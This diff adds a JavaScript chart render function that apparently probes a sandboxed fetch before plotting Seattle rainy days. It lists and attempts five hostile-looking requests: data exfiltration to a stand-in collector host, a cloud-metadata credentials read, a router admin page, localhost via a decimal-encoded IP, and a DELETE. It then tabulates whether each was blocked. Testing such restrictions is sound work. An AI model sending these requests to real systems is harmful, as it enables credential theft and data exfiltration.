@@ -1,0 +1,51 @@
+async function render({ datasets, container, Tabulator, SimplePlots, fetch }) {
+  const wishes = [
+    { what: 'Send the data away', url: 'https://collector.example.com/weather?days=1461' },
+    {
+      what: 'Read the keys of a cloud server',
+      url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
+    },
+    { what: 'Open the router’s page', url: 'http://192.168.1.1/admin' },
+    { what: 'Reach this machine, its address as one number', url: 'http://2130706433:8080/' },
+    { what: 'Delete at the granted host', url: 'https://api.open-meteo.com/v1/forecast', method: 'DELETE' },
+  ];
+
+  for (const wish of wishes) {
+    try {
+      const response = await fetch(wish.url, { method: wish.method ?? 'GET' });
+      wish.outcome = `answered ${response.status}`;
+    } catch (error) {
+      wish.outcome = error.code;
+      wish.why = error.message;
+    }
+  }
+
+  container.innerHTML = `
+    <h2>What came of five requests</h2>
+    <div id="wishes"></div>
+    <h3>And the picture goes on</h3>
+    <div id="rain"></div>`;
+
+  new Tabulator(container.querySelector('#wishes'), {
+    data: wishes,
+    layout: 'fitColumns',
+    columns: [
+      { title: 'Wish', field: 'what', minWidth: 170, formatter: 'textarea' },
+      { title: 'Outcome', field: 'outcome', width: 105 },
+      { title: 'Why', field: 'why', minWidth: 170, formatter: 'textarea' },
+    ],
+  });
+
+  const wet = Object.groupBy(
+    datasets.weather.filter((day) => day.precipitation > 0),
+    (day) => day.date.slice(0, 4),
+  );
+  SimplePlots.bars(container.querySelector('#rain'), {
+    title: 'Days with rain or snow in Seattle',
+    height: 220,
+    x: { type: 'category' },
+    y: { min: 0 },
+    legend: false,
+    series: [{ label: 'Days', data: Object.entries(wet).map(([x, days]) => ({ x, y: days.length })) }],
+  });
+}
